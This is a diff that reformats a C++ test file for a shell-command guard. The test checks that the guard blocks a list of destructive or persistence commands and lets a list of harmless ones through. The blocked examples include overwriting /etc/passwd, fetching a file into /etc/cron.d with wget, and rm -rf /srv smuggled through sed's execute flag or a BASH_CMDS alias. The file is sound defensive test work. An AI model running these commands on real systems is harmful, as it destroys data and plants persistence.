@@ -116,13 +116,15 @@ TEST_CASE("a function of a program's name hides neither itself nor what a wrappe
 }
 
 TEST_CASE("programs that write by an option or operand of their own are seen to write", "[guard]") {
-  for (const char* text : {"shuf -o /etc/passwd x", "uniq x /etc/passwd", "xxd -r p /etc/passwd", "patch /etc/passwd x", "script /etc/passwd", "logsave /etc/passwd ls",
-                           "iconv -f l1 x -o /etc/passwd", "split -b1 x /etc/cron.d/", "wget -P /etc/cron.d http://h.example/x", "BASH_CMDS[ls]=/bin/rm; ls -rf /srv", "tsp rm -rf /srv",
-                           "sed --expression='1e rm -rf /srv' x", "sed 's/.*/rm -rf \\/srv/e' /etc/hostname", "sed 's|^.*|rm -rf /srv|e' x"}) {
+  for (const char* text :
+       {"shuf -o /etc/passwd x", "uniq x /etc/passwd", "xxd -r p /etc/passwd", "patch /etc/passwd x", "script /etc/passwd", "logsave /etc/passwd ls",
+        "iconv -f l1 x -o /etc/passwd", "split -b1 x /etc/cron.d/", "wget -P /etc/cron.d http://h.example/x", "BASH_CMDS[ls]=/bin/rm; ls -rf /srv",
+        "tsp rm -rf /srv", "sed --expression='1e rm -rf /srv' x", "sed 's/.*/rm -rf \\/srv/e' /etc/hostname", "sed 's|^.*|rm -rf /srv|e' x"}) {
     CAPTURE(text);
     CHECK(stops(text));
   }
-  for (const char* text : {"shuf -n 3 /etc/passwd", "uniq -c x", "xxd p", "split -l 10 x part_", "sed -e 's/e/e/g' x", "sed 's|a|e|' x", "wget -P /tmp/x http://h.example/x"}) {
+  for (const char* text :
+       {"shuf -n 3 /etc/passwd", "uniq -c x", "xxd p", "split -l 10 x part_", "sed -e 's/e/e/g' x", "sed 's|a|e|' x", "wget -P /tmp/x http://h.example/x"}) {
     CAPTURE(text);
     CHECK_FALSE(stops(text));
   }
